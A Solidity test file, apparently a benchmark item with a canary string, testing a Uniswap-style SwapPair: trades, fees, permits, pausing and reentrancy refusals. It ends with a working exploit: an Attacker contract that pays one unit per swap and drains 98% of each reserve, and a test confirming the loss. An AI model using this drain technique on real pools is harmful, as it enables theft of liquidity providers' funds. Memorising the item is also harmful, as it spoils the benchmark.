// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./SwapPair.sol";

// assay-canary-879a64d5-3af3-4ba5-8f02-f5bfe6e6dd72

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

/// A token that anybody may set: it comes and goes, moves or does not, and calls the pair back while it moves, which has to fail.
contract LooseToken {
    mapping(address => uint256) public balanceOf;
    bool private stuck;
    address private called;
    bytes private message;

    function put(address holder, uint256 amount) external {
        balanceOf[holder] = amount;
    }

    function stick() external {
        stuck = true;
    }

    function callBack(address called_, bytes calldata message_) external {
        called = called_;
        message = message_;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (stuck) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        if (called != address(0)) {
            (bool ok, bytes memory answer) = called.call(message);
            bytes memory told = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
            require(!ok && keccak256(answer) == keccak256(told), "let through");
        }
        return true;
    }
}

contract Token is ERC20 {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// Takes tokens first and pays for them when it is called.
contract Taker is ISwapCallee {
    Token private paid;

    constructor(Token paid_) public {
        paid = paid_;
    }

    function onSwap(address sender, uint256, uint256, bytes calldata data) external {
        require(sender != address(0), "by somebody");
        paid.transfer(msg.sender, abi.decode(data, (uint256)));
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant PROVIDER = address(0x5919);
    address constant PROTOCOL = address(0x960);
    uint256 constant KEY = 0xA11CE;
    uint256 constant SIDE = 25000000 ether;

    Token internal busd;
    Token internal wbnb;
    PairSettings internal settings;
    SwapPair internal pair;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1619500000);
        busd = new Token();
        wbnb = new Token();
        settings = new PairSettings();
        pair = new SwapPair(settings, busd, wbnb, 56);
        busd.mint(address(pair), SIDE);
        wbnb.mint(address(pair), SIDE);
        pair.mint(PROVIDER);
        thief = new Attacker(pair, busd, wbnb);
        busd.mint(address(thief), 100);
        wbnb.mint(address(thief), 100);
    }

    function test_Regular() public {
        require(pair.balanceOf(PROVIDER) == SIDE - 1000 && pair.totalSupply() == SIDE, "added");
        vm.warp(1619500000 + 100);
        (uint256 sum0, uint256 sum1) = pair.cumulativePrices();
        require(sum0 == 100 << 112 && sum1 == 100 << 112, "cumulative prices");
        uint256 out = pair.getAmountOut(1000 ether, true);
        require(out > 998 ether && out < 999 ether, "quote");
        uint256 asked = pair.getAmountIn(out, true);
        require(asked <= 1000 ether + 1 && asked > 999 ether, "quote of the input");
        busd.mint(address(pair), 1000 ether);
        pair.swap(0, out, address(this), "");
        require(wbnb.balanceOf(address(this)) == out && pair.reserve0() == SIDE + 1000 ether, "traded");
        require(pair.price0Cumulative() == sum0 && pair.lastUpdate() == now, "accumulated");

        busd.mint(address(pair), 1 ether);
        pair.sync();
        require(pair.reserve0() == SIDE + 1001 ether, "synced");
        busd.mint(address(pair), 2 ether);
        pair.skim(address(this));
        require(busd.balanceOf(address(this)) == 2 ether && pair.reserve0() == SIDE + 1001 ether, "skimmed");

        vm.prank(PROVIDER);
        pair.transfer(address(pair), SIDE / 10);
        pair.burn(PROVIDER);
        require(busd.balanceOf(PROVIDER) == (SIDE + 1001 ether) / 10, "removed");
        require(wbnb.balanceOf(PROVIDER) == (SIDE - out) / 10, "removed of the other");

        settings.setFeeTo(PROTOCOL);
        add();
        require(pair.lastProduct() == pair.reserve0() * pair.reserve1(), "remembered");
        Taker taker = new Taker(busd);
        busd.mint(address(taker), 2000000 ether);
        out = pair.getAmountOut(2000000 ether, true);
        pair.swap(0, out, address(taker), abi.encode(uint256(2000000 ether)));
        require(wbnb.balanceOf(address(taker)) == out, "paid when called");
        add();
        require(pair.balanceOf(PROTOCOL) > 350 ether && pair.balanceOf(PROTOCOL) < 450 ether, "a quarter");
        settings.setFeeTo(address(0));
        add();
        require(pair.lastProduct() == 0, "forgotten");
        allowances();

        settings.setPaused(true);
        settings.setPaused(false);
        settings.transferOwnership(PROVIDER);
        vm.prank(PROVIDER);
        settings.renounceOwnership();
    }

    /// A hundredth more of both tokens.
    function add() private {
        busd.mint(address(pair), pair.reserve0() / 100);
        wbnb.mint(address(pair), pair.reserve1() / 100);
        uint256 supply = pair.totalSupply();
        require(pair.mint(address(this)) <= supply / 100 + 10 ether, "added a hundredth");
    }

    function allowances() private {
        pair.approve(PROVIDER, 2);
        pair.increaseAllowance(PROVIDER, 2);
        pair.decreaseAllowance(PROVIDER, 2);
        vm.prank(PROVIDER);
        pair.transferFrom(address(this), PROVIDER, 2);
        require(pair.allowance(address(this), PROVIDER) == 0, "allowance");
        address alice = vm.addr(KEY);
        pair.permit(alice, PROVIDER, 5, now, signature(alice, 5, 0));
        require(pair.allowance(alice, PROVIDER) == 5 && pair.nonces(alice) == 1, "by signature");
    }

    function signature(address owner, uint256 value, uint256 nonce) private returns (bytes memory) {
        bytes32 content = keccak256(abi.encode(pair.PERMIT_TYPEHASH(), owner, PROVIDER, value, nonce, now));
        bytes32 digest = keccak256(abi.encodePacked("\x19\x01", pair.DOMAIN_SEPARATOR(), content));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, digest);
        return abi.encodePacked(r, s, v);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSetups() public {
        vm.expectRevert("same token");
        new SwapPair(settings, busd, busd, 56);
        vm.expectRevert("no settings");
        new SwapPair(PairSettings(0), busd, wbnb, 56);
    }

    function test_RefusesStrangers() public {
        vm.prank(PROVIDER);
        vm.expectRevert("Ownable: caller is not the owner");
        settings.setFeeTo(PROVIDER);
        vm.prank(PROVIDER);
        vm.expectRevert("Ownable: caller is not the owner");
        settings.setPaused(true);
    }

    function test_RefusesWhilePaused() public {
        busd.mint(address(pair), 1 ether);
        wbnb.mint(address(pair), 1 ether);
        settings.setPaused(true);
        vm.expectRevert("paused");
        pair.mint(address(this));
        vm.expectRevert("paused");
        pair.swap(0, 0.5 ether, address(this), "");
    }

    function test_RefusesSignatures() public {
        address alice = vm.addr(KEY);
        bytes memory good = signature(alice, 5, 0);
        vm.expectRevert("bad signature");
        pair.permit(alice, PROVIDER, 6, now, good);
        vm.expectRevert("bad signature");
        pair.permit(address(0), PROVIDER, 5, now, "");
        vm.expectRevert("expired");
        pair.permit(alice, PROVIDER, 5, now - 1, good);
        pair.permit(alice, PROVIDER, 5, now, good);
        vm.expectRevert("bad signature");
        pair.permit(alice, PROVIDER, 5, now, good);
    }

    function test_RefusesToAddNothing() public {
        vm.expectRevert("nothing added");
        pair.mint(address(this));
    }

    function test_RefusesToRemoveNothing() public {
        vm.expectRevert("nothing removed");
        pair.burn(address(this));
    }

    function test_RefusesToRemoveOneSide() public {
        (SwapPair other, LooseToken first, LooseToken second) = loose();
        other.transfer(address(other), 1 ether);
        first.put(address(other), 0);
        vm.expectRevert("nothing removed");
        other.burn(address(this));
        first.put(address(other), 10 ether);
        second.put(address(other), 0);
        vm.expectRevert("nothing removed");
        other.burn(address(this));
    }

    function test_RefusesTradesForNothing() public {
        vm.expectRevert("no output");
        pair.swap(0, 0, address(this), "");
        vm.expectRevert("no input");
        pair.swap(1, 0, address(this), "");
    }

    function test_RefusesTradesForAllOfASide() public {
        vm.expectRevert("no liquidity");
        pair.swap(SIDE, 1, address(this), "");
        vm.expectRevert("no liquidity");
        pair.swap(1, SIDE, address(this), "");
    }

    function test_RefusesTradesForNearlyAll() public {
        busd.mint(address(pair), 1 ether);
        vm.expectRevert("product");
        pair.swap(0, SIDE - 1 ether, address(this), "");
    }

    function test_RefusesToPayTheTokensThemselves() public {
        vm.expectRevert("bad recipient");
        pair.swap(1, 0, address(busd), "");
        vm.expectRevert("bad recipient");
        pair.swap(1, 0, address(wbnb), "");
    }

    function test_RefusesTokensThatDoNotMove() public {
        (SwapPair other, LooseToken first, LooseToken second) = loose();
        first.stick();
        vm.expectRevert();
        other.swap(1, 0, address(this), "");
        second.stick();
        vm.expectRevert();
        other.swap(0, 1, address(this), "");
    }

    function test_RefusesTooMuch() public {
        (SwapPair other, LooseToken first, LooseToken second) = loose();
        first.put(address(other), uint256(2**112));
        vm.expectRevert("too much");
        other.sync();
        first.put(address(other), 10 ether);
        second.put(address(other), uint256(2**112));
        vm.expectRevert("too much");
        other.sync();
        second.put(address(other), 1 ether);
        vm.expectRevert("SafeMath: subtraction overflow");
        other.skim(address(this));
    }

    function test_RefusesASecondCallWhileTokensMove() public {
        (SwapPair other, LooseToken first, ) = loose();
        bytes[5] memory calls = [
            abi.encodeWithSignature("mint(address)", this),
            abi.encodeWithSignature("burn(address)", this),
            abi.encodeWithSignature("swap(uint256,uint256,address,bytes)", 0, 1, this, ""),
            abi.encodeWithSignature("skim(address)", this),
            abi.encodeWithSignature("sync()")
        ];
        for (uint256 i = 0; i < 5; i++) {
            first.callBack(address(other), calls[i]);
            vm.expectRevert("no input");
            other.swap(1, 0, address(this), "");
        }
    }

    /// A pair of two loose tokens, ten of each; its liquidity is this contract's.
    function loose() private returns (SwapPair other, LooseToken first, LooseToken second) {
        first = new LooseToken();
        second = new LooseToken();
        other = new SwapPair(settings, IERC20(address(first)), IERC20(address(second)), 56);
        first.put(address(other), 10 ether);
        second.put(address(other), 10 ether);
        other.mint(address(this));
    }

    /// What the provider's liquidity stands for; either token is worth a dollar.
    function recoverable() public view returns (uint256) {
        uint256 all = busd.balanceOf(address(pair)) + wbnb.balanceOf(address(pair));
        return all * pair.balanceOf(PROVIDER) / pair.totalSupply();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(recoverable() + 49999000 ether <= before, "nothing lost");
    }

    function target() public view returns (address) {
        return address(pair);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Pays one unit and takes 98 of 100, from one side and then from the other.
contract Attacker {
    SwapPair internal pair;
    Token internal busd;
    Token internal wbnb;

    constructor(SwapPair pair_, Token busd_, Token wbnb_) public {
        pair = pair_;
        busd = busd_;
        wbnb = wbnb_;
    }

    function run() external {
        for (uint256 i = 0; i < 3; i++) {
            busd.transfer(address(pair), 1);
            pair.swap(0, pair.reserve1() / 100 * 98, address(this), "");
            wbnb.transfer(address(pair), 1);
            pair.swap(pair.reserve0() / 100 * 98, 0, address(this), "");
        }
    }
}
